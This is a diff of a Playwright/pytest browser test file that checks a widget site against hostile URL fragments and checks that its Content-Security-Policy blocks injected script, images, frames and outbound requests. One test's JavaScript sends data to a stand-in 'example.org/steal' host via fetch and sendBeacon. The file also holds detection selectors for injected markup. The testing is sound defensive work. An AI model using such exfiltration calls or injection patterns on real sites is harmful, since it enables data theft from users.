@@ -5,7 +5,10 @@ from urllib.parse import quote
 
 import pytest
 from places import site_pages
-from playwright.sync_api import Page, Route
+from playwright.sync_api import Page, Route, expect
+from traffic import Traffic
+
+from cnnlab.widgets import SlidingKernel
 
 pytestmark = pytest.mark.browser
 
@@ -57,36 +60,66 @@ PAYLOADS = [
 ]
 
 
-def test_there_are_enough_hostile_links() -> None:
-    assert len(set(PAYLOADS)) >= 30
+# Each address is what the browser makes of it, and a widget is drawn anew from it.
+OPEN = """([html, fragments]) => fragments.map((fragment) => {
+  history.replaceState(null, "", `#widget-sliding_kernel&${fragment}`);
+  const box = document.createElement("div");
+  box.innerHTML = html;
+  document.querySelector("article").replaceChildren(box);
+  cnnlab.mountAll(box);
+  const strange = "img, script, iframe, [onload], [onerror], [onmouseover], [onclick]";
+  return {
+    shown: box.querySelectorAll(".cnnlab[role=group], .cnnlab-problem").length > 0,
+    strange: [...box.querySelectorAll(strange)].map((part) => part.outerHTML),
+    polluted: "ran" in {},
+  };
+})"""
+HARMLESS = {"shown": True, "strange": [], "polluted": False}
 
 
-@pytest.mark.parametrize("encoded", [False, True], ids=["plain", "percent-encoded"])
-def test_no_link_runs_anything_or_reaches_out(site: str, page: Page, encoded: bool) -> None:
+def encoded(payload: str) -> str:
+    name, equals, value = payload.partition("=")
+    return f"{name}{equals}{quote(value)}"
+
+
+def test_no_link_runs_anything_or_reaches_out(site: str, page: Page, traffic: Traffic) -> None:
     page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
-    errors: list[str] = []
-    page.on("pageerror", lambda error: errors.append(str(error)))
-    for payload in PAYLOADS:
-        name, equals, value = payload.partition("=")
-        fragment = f"{name}{equals}{quote(value)}" if encoded else payload
-        page.goto("about:blank")
-        page.goto(f"{site}/{CHAPTER}#cnnlab-0&{fragment}")
-        box = page.locator(".cnnlab-widget").first
-        # Whatever the link says, there is a widget that works or a message in its place.
-        box.locator(".cnnlab[role=group], .cnnlab-problem").first.wait_for()
-        for strange in ("img", "script", "iframe", "[onload]", "[onerror]", "[onmouseover]"):
-            assert box.locator(strange).count() == 0, payload
-        assert not page.evaluate("document.documentElement.dataset.ran"), payload
-        assert page.evaluate("({}).ran === undefined"), payload
-        assert page.url.startswith(f"{site}/{CHAPTER}#"), payload
-        assert errors == [], payload
+    page.goto(f"{site}/{CHAPTER}")
+    fragments = [*PAYLOADS, *map(encoded, PAYLOADS)]
+    found = page.evaluate(OPEN, [SlidingKernel()._repr_html_(), fragments])
+    # Whatever the link says, there is a widget that works or a message in its place.
+    harmful = {f: seen for f, seen in zip(fragments, found, strict=True) if seen != HARMLESS}
+    assert harmful == {}
+    traffic.settle()
+    assert not page.evaluate("document.documentElement.dataset.ran")
+    assert traffic.problems == []
 
 
-def test_every_page_has_the_policy_and_no_page_breaks_it(site: str) -> None:
+@pytest.mark.parametrize("payload", PAYLOADS[:5])
+def test_a_page_that_is_opened_by_such_a_link_is_itself(
+    site: str, page: Page, traffic: Traffic, payload: str
+) -> None:
+    address = f"{site}/{CHAPTER}#widget-sliding_kernel"
+    page.goto(f"{address}&{payload}")
+    traffic.settle()
+    widget = page.locator(".cnnlab-widget[data-widget=sliding_kernel]").first
+    expect(widget.locator(".cnnlab")).to_be_visible()
+    assert page.url.startswith(address)
+    assert not page.evaluate("document.documentElement.dataset.ran")
+    assert traffic.problems == []
+
+
+def test_every_page_has_the_policy(site: str) -> None:
     for path in site_pages():
         text = path.read_text(encoding="utf-8")
         assert text.count('http-equiv="Content-Security-Policy"') == 1, path
         assert text.index("charset") < text.index("Content-Security-Policy") < text.index("<script")
+
+
+STOPPED = [
+    *("script-src-elem", "script-src-attr", "script-src", "style-src-elem"),
+    *("img-src", "frame-src", "connect-src", "base-uri"),
+]
 
 
 def test_the_policy_stops_what_would_be_injected(site: str, page: Page) -> None:
@@ -100,7 +133,7 @@ def test_the_policy_stops_what_would_be_injected(site: str, page: Page) -> None:
     page.route("https://example.org/**", answer)
     page.goto(f"{site}/{CHAPTER}")
     broken = page.evaluate(
-        """async (mark) => {
+        """async ([mark, stopped]) => {
              const broken = [];
              addEventListener("securitypolicyviolation", (e) => broken.push(e.effectiveDirective));
              const add = (html) =>
@@ -117,16 +150,15 @@ def test_the_policy_stops_what_would_be_injected(site: str, page: Page) -> None:
              await fetch("https://example.org/steal").catch(() => {});
              setTimeout(() => eval(mark)); // later: what a debugger evaluates may evaluate, too
              try { navigator.sendBeacon("https://example.org/steal"); } catch {}
-             await new Promise((done) => setTimeout(done, 300));
+             const limit = performance.now() + 5000;
+             while (!stopped.every((rule) => broken.includes(rule)) && performance.now() < limit)
+               await new Promise((done) => setTimeout(done, 10));
              return broken;
            }""",
-        MARK,
+        [MARK, STOPPED],
     )
     assert asked == []
     assert not page.evaluate("document.documentElement.dataset.ran")
     assert page.evaluate("getComputedStyle(document.body).display") != "none"
     assert page.evaluate("document.baseURI").startswith(site)
-    assert set(broken) >= {
-        *("script-src-elem", "script-src-attr", "script-src", "style-src-elem"),
-        *("img-src", "frame-src", "connect-src", "base-uri"),
-    }
+    assert set(broken) >= set(STOPPED)
